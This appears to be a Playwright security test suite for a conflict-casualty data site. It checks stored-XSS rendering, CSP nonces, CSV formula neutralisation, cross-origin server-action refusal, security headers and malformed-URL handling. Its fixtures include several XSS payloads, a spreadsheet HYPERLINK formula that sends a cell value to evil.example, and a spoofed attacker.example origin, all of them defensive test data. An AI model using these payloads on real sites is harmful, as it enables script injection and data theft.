// What an attacker might type: script and HTML in a conflict's name, a source's name, a report's title and text,
// a quote, a note and an event's label render as inert text on every page that shows them (no script runs, no
// dialog opens, no Content-Security-Policy violation is even reported); pages carry the nonce policy; a CSV
// cell a spreadsheet would run is neutralised; a server action posted from another origin is refused.
import { expect, type Page } from "@playwright/test";
import { closeDb, makeAnnotation, makeConflict, makeFigureIn, makeReport, sourceNamed, uid } from "./factories";
import { chartPoints, metricSection, openDataTable, signInAs, test } from "./fixtures";

test.afterAll(closeDb);

/** Each payload would set this flag, or open a dialog, if it ever ran. */
const FLAG = "__attacked";
const payloads = (where: string) =>
  [
    `<script>window.${FLAG}="${where} script"</script>`,
    `<img src=x onerror="window.${FLAG}='${where} img'">`,
    `"><svg onload=alert('${where}')>`,
    `</title><script>alert(1)</script>`,
  ].join(" ");

type Watch = { dialogs: string[] };

/** Records dialogs and, before any page script, every CSP violation the browser reports. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { dialogs: [] };
  page.on("dialog", (d) => {
    seen.dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return seen;
}

/** Opens a page and checks it carries a nonce policy, and that nothing ran or was blocked. */
async function visit(page: Page, seen: Watch, path: string): Promise<void> {
  const response = await page.goto(path);
  expect(response?.status(), path).toBe(200);
  const csp = (await response!.allHeaders())["content-security-policy"] ?? "";
  expect(csp, path).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{24}' 'strict-dynamic'/);
  expect(csp, path).not.toMatch(/script-src[^;]*unsafe-inline/);
  await page.waitForLoadState("load");
  await expectNothingRan(page, seen, path);
}

async function expectNothingRan(page: Page, seen: Watch, where: string): Promise<void> {
  expect(await page.evaluate((flag) => (window as unknown as Record<string, unknown>)[flag] ?? null, FLAG), where).toBeNull();
  expect(seen.dialogs, where).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations), where).toEqual([]);
}

test("script and HTML in names, titles, texts, quotes, notes and labels render as text, and nothing runs", async ({ page }) => {
  test.setTimeout(120_000);
  const id = uid();
  const conflict = await makeConflict({ name: `War ${id} ${payloads("conflict")}` });
  const sourceName = `Source ${id} ${payloads("source")}`;
  const quote = `about 1,234 people were killed ${payloads("quote")}`;
  const report = await makeReport({
    title: `Report ${id} ${payloads("title")}`,
    publisher: `Publisher ${payloads("publisher")}`,
    fullText: `Monday. ${payloads("text")} The ministry said ${quote}. Another 55 people fled to the border.`,
  });
  const figure = await makeFigureIn({ conflict: conflict.slug, source: sourceName, reportId: report.id, quote, note: `Note ${payloads("note")}`, value: 1234, qualifier: "about" });
  await makeFigureIn({ conflict: conflict.slug, source: sourceName, reportId: report.id, quote: `=HYPERLINK("http://evil.example/?"&A1,"click") ${id}`, value: 99, refDate: "2013-01-15" });
  await makeAnnotation({ conflict: conflict.slug, date: "2013-02-01", label: `Event ${payloads("event")}` });
  const seen = await watch(page);

  await visit(page, seen, "/");
  await expect(page.getByRole("link", { name: conflict.name })).toBeVisible();

  await visit(page, seen, `/conflicts/${conflict.slug}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(conflict.name);
  const deaths = metricSection(page, "Deaths");
  // the chart is a client component: hovering a point opens its tooltip, so the page's scripts ran under the policy
  await deaths.getByRole("figure").getByRole("link", { name: /about 1,234 on 28 Feb 2013/ }).hover();
  const tooltip = page.getByRole("dialog").filter({ hasText: "1,234" });
  await expect(tooltip).toContainText(`${FLAG}="quote script"`);
  await page.mouse.move(0, 0);
  await expect(tooltip).toBeHidden();
  await openDataTable(deaths);
  await expect(deaths.getByRole("table").getByText(quote)).toBeVisible();
  await expectNothingRan(page, seen, "conflict page, tooltip and table open");

  await visit(page, seen, `/embed/conflicts/${conflict.slug}/deaths`);
  await visit(page, seen, `/compare?metric=deaths&conflicts=${conflict.slug}`);
  await visit(page, seen, `/figures/${figure}`);
  await expect(page.getByText(quote).first()).toBeVisible();
  await expect(page.getByText(`Note ${payloads("note")}`)).toBeVisible();
  await visit(page, seen, `/figures?conflict=${conflict.slug}`);
  await visit(page, seen, `/reports/${report.id}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(report.title);
  // the stored text is shown as typed, its quote highlighted and linked to the figure
  await expect(page.getByRole("link", { name: quote })).toBeVisible();
  await expect(page.getByText(payloads("text"), { exact: false }).first()).toBeVisible();
  await visit(page, seen, `/reports?q=${encodeURIComponent(`Report ${id}`)}`);
  await expect(page.getByRole("link", { name: report.title })).toBeVisible();
  const source = await sourceNamed(sourceName);
  await visit(page, seen, `/sources/${source!.id}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(sourceName);
  await visit(page, seen, "/sources");

  // editors' pages show the same text in forms and beside the extractor's proposals
  await signInAs(page, "editor");
  await visit(page, seen, `/figures/${figure}/edit`);
  await expect(page.getByLabel("Quote", { exact: true })).toHaveValue(quote);
  await visit(page, seen, `/reports/${report.id}/edit`);
  await visit(page, seen, `/reports/${report.id}/review`);
  await visit(page, seen, `/sources/${source!.id}/edit`);

  // the CSV keeps the text as typed, except a formula, which gets a leading apostrophe; the file is never sniffed as HTML
  const csv = await page.request.get(`/api/v1/figures.csv?conflict=${conflict.slug}`);
  expect(csv.headers()["x-content-type-options"]).toBe("nosniff");
  expect(csv.headers()["content-disposition"]).toMatch(/^attachment/);
  const body = await csv.text();
  expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"") ${id}"`);
  expect(body).not.toMatch(/,"?=HYPERLINK/);
  expect(body).toContain(`<script>window.${FLAG}=""quote script""</script>`);
});

test("a server action posted from another origin is refused and writes nothing; the same request from this origin is accepted", async ({ page, baseURL }) => {
  await signInAs(page, "editor");
  await page.goto("/sources/new");
  const name = `Origin test ${uid()}`;
  await page.getByLabel("Name").fill(name);
  await page.getByLabel("Kind").selectOption("ngo");

  // the browser's own request for "Save source", held back and kept: its action id, body and headers
  const captured = new Promise<{ url: string; headers: Record<string, string>; body: Buffer }>((resolve) => {
    void page.route("**/sources/new", async (route) => {
      const request = route.request();
      if (request.method() !== "POST") return route.continue();
      resolve({ url: request.url(), headers: await request.allHeaders(), body: request.postDataBuffer()! });
      await route.abort();
    });
  });
  await page.getByRole("button", { name: "Save source" }).click();
  const sent = await captured;
  expect(sent.headers["next-action"]).toMatch(/^[0-9a-f]{40,}$/);
  expect(await sourceNamed(name)).toBeUndefined();

  // page.request shares the signed-in editor's cookies: only the Origin differs between the two
  const replay = (origin: string) =>
    page.request.fetch(sent.url, {
      method: "POST",
      headers: { ...Object.fromEntries(Object.entries(sent.headers).filter(([k]) => !["cookie", "host", "content-length"].includes(k))), origin },
      data: sent.body,
      maxRedirects: 0,
    });

  const foreign = await replay("https://attacker.example");
  expect(foreign.status()).toBeGreaterThanOrEqual(400);
  expect(await sourceNamed(name)).toBeUndefined();

  const own = await replay(new URL(baseURL!).origin);
  expect(own.status()).toBe(200);
  expect(own.headers()["x-action-redirect"]).toMatch(/^\/sources\/\d+\?saved=created/);
  expect(await sourceNamed(name)).toBeDefined();
});

test("every answer carries the base headers; the API forbids all content and framing; only embeds may be framed", async ({ request }) => {
  const page = await request.get("/sign-in");
  const api = await request.get("/api/v1/conflicts");
  const embed = await request.get("/embed/conflicts/syria/deaths");
  for (const r of [page, api, embed]) {
    expect(r.headers()["x-content-type-options"]).toBe("nosniff");
    expect(r.headers()["referrer-policy"]).toBe("strict-origin-when-cross-origin");
    expect(r.headers()["permissions-policy"]).toContain("camera=()");
  }
  expect(page.headers()["x-frame-options"]).toBe("DENY");
  expect(page.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(api.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
  expect(embed.headers()["x-frame-options"]).toBeUndefined();
  expect(embed.headers()["content-security-policy"]).toContain("frame-ancestors *");
  // served over http here: no HSTS, which would pin https on localhost
  expect(page.headers()["strict-transport-security"]).toBeUndefined();
});

test("the Syria page draws its charts and tooltips under the policy, with no violation", async ({ page }, testInfo) => {
  const seen = await watch(page);
  await visit(page, seen, "/conflicts/syria");
  const chart = page.getByRole("figure", { name: "Deaths in Syria" });
  await expect(chartPoints(chart)).toHaveCount(15);
  await chart.getByRole("link", { name: "United Nations: about 70,000 on 1 Mar 2013" }).hover();
  await expect(page.getByRole("dialog", { name: "United Nations: about 70,000" })).toBeVisible();
  await expectNothingRan(page, seen, "/conflicts/syria with a tooltip open");
  await page.screenshot({ path: testInfo.outputPath("conflict-page-with-csp.png"), fullPage: true });
});

test("hand-made page URLs with NUL characters or ids beyond any row answer 404 or the page, never a server error", async ({ page }) => {
  const notFound = ["/figures/99999999999999999999", "/figures/1.5", "/reports/99999999999999999999", "/sources/99999999999999999999", "/conflicts/%00", "/embed/conflicts/%00/deaths"];
  const shown = ["/figures?q=kil%00led&conflict=%00&metric=%00&source=99999999999999999999", "/reports?q=kil%00led", "/compare?conflicts=%00&metric=%00", "/conflicts/syria?from=%00&to=2013-13-40&hide=%00&asOf=%00"];
  const check = async (paths: string[], status: number) => {
    for (const path of paths) expect((await page.request.get(path)).status(), path).toBe(status);
  };
  await check(notFound, 404);
  await check(shown, 200);
  await signInAs(page, "editor");
  await check(["/figures/99999999999999999999/edit", "/reports/99999999999999999999/edit", "/sources/99999999999999999999/edit"], 404);
  await check(["/figures/new?supersedes=99999999999999999999&report=99999999999999999999&conflict=%00"], 200);
});
